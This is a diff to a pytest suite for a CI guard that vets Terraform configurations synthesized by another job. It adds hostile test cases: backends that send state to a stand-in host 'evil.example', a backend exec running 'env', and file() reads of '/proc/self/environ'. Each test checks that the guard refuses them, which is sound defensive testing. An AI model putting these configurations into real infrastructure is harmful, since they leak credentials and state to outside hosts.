@@ -153,19 +153,79 @@ def test_what_could_run_code_is_refused(name: str, base: Path, tmp_path: Path) -
     assert not (tmp_path / "output").exists()
 
 
-# The state and the release are what main says, and nothing here knows them otherwise.
-OF_MAIN = ("another state", "another release")
+# The lock of the checkout has the release.
+OF_MAIN = ("another release",)
 
 
-@pytest.mark.parametrize("name", set(ATTACKS) - set(OF_MAIN))
+def provider(configuration: dict[str, Any]) -> dict[str, Any]:
+    return configuration["provider"]["aws"][0]
+
+
+def kept_in(**backend: object) -> Change:
+    return lambda c: c["terraform"].update(backend=backend)
+
+
+ENVIRON = '${file("/proc/self/environ")}'
+# Of a pull request, what main has of these is compared.
+ATTACKS_OF_MAIN: dict[str, Change] = {
+    "a state that runs a program": kept_in(
+        kubernetes={"secret_suffix": "x", "exec": [{"command": "env"}]}
+    ),
+    "a state on a server": kept_in(http={"address": "https://evil.example"}),
+    "a state through a proxy": kept_in(
+        s3={"bucket": "b", "key": "k", "http_proxy": "http://evil.example", "insecure": True}
+    ),
+    "a state that is two": lambda c: c["terraform"].update(cloud={"hostname": "evil.example"}),
+    "a state at another organization": lambda c: c["terraform"].update(
+        backend=None, cloud={"hostname": "evil.example", "token": "x"}
+    ),
+    "a local state with more": lambda c: c["terraform"]["backend"]["local"].update(
+        workspace_dir="/tmp"
+    ),
+    "another region": lambda c: provider(c).update(region="us-east-1"),
+    "a region from a file": lambda c: provider(c).update(region=ENVIRON),
+    "another account": lambda c: provider(c).update(allowed_account_ids=["999999999999"]),
+    "no tags": lambda c: provider(c).pop("default_tags"),
+    "tags of another environment": lambda c: provider(c)["default_tags"][0]["tags"].update(
+        Environment="prod"
+    ),
+    "a tag from a file": lambda c: provider(c)["default_tags"][0]["tags"].update(X=ENVIRON),
+    "a data source that reads a file": lambda c: c["data"].update(
+        aws_kms_alias={"x": {"name": ENVIRON}}
+    ),
+    "a data source for each": lambda c: c["data"]["aws_caller_identity"]["current"].update(
+        for_each=["a"]
+    ),
+    "a data source in a list": lambda c: c["data"].update(aws_kms_alias=[{"x": {"name": "x"}}]),
+    "a data source that depends on a file": lambda c: c["data"]["aws_caller_identity"][
+        "current"
+    ].update(depends_on=['aws_kms_key.sns[file("/x")]']),
+}
+
+
+@pytest.mark.parametrize("name", sorted({*ATTACKS, *ATTACKS_OF_MAIN} - {*OF_MAIN}))
 def test_what_another_job_synthesized_cannot_run_code_either(
     name: str, base: Path, tmp_path: Path
 ) -> None:
     """Attack: a bad release in the job that synthesizes runs code as the deploy role."""
-    foreign = changed(base, tmp_path, ATTACKS[name])
+    foreign = changed(base, tmp_path, {**ATTACKS, **ATTACKS_OF_MAIN}[name])
     with pytest.raises(Failure, match="from another job could run code"):
-        take_synthesized(STACK, synthesized=foreign, output=tmp_path / "output")
+        take_synthesized(PLAIN, synthesized=foreign, output=tmp_path / "output")
     assert not (tmp_path / "output").exists()
+
+
+def test_another_job_declares_nothing(base: Path, tmp_path: Path) -> None:
+    """Attack: what is synthesized is weaker, and declares that it is meant."""
+
+    def declared(configuration: dict[str, Any]) -> None:
+        configuration["//"]["declarations"] = {}
+
+    foreign = changed(base, tmp_path, declared)
+    taken = take_synthesized(PLAIN, synthesized=foreign, output=tmp_path / "output")
+    ours, theirs = (
+        json.loads((each / "cdk.tf.json").read_text()) for each in (base / "stacks" / STACK, taken)
+    )
+    assert theirs["//"]["declarations"] == ours["//"]["declarations"]
 
 
 def test_a_comment_never_reaches_terraform(base: Path, tmp_path: Path) -> None:
@@ -212,7 +272,7 @@ def test_only_the_configuration_and_its_assets_are_taken(base: Path, tmp_path: P
     (folder / ".terraform").mkdir()
     (folder / ".terraform.lock.hcl").write_text("evil")
     take_over(STACK, base=base, foreign=foreign, output=tmp_path / "output")
-    take_synthesized(STACK, synthesized=foreign, output=tmp_path / "deployed")
+    take_synthesized(PLAIN, synthesized=foreign, output=tmp_path / "deployed")
     for output in ("output", "deployed"):
         taken = {each.name: each for each in (tmp_path / output / "stacks" / STACK).iterdir()}
         lock = taken.pop(".terraform.lock.hcl", None)
@@ -245,7 +305,7 @@ def test_every_kind_of_environment_of_ours_passes(tmp_path: Path) -> None:
     for each in every:
         stack = each.names.prefix
         take_over(stack, base=output, foreign=output, output=tmp_path / "taken")
-        take_synthesized(stack, synthesized=output, output=tmp_path / "deployed")
+        take_synthesized(each, synthesized=output, output=tmp_path / "deployed")
 
 
 def test_the_command_refuses_with_status_2_and_the_reason(base: Path, tmp_path: Path) -> None:
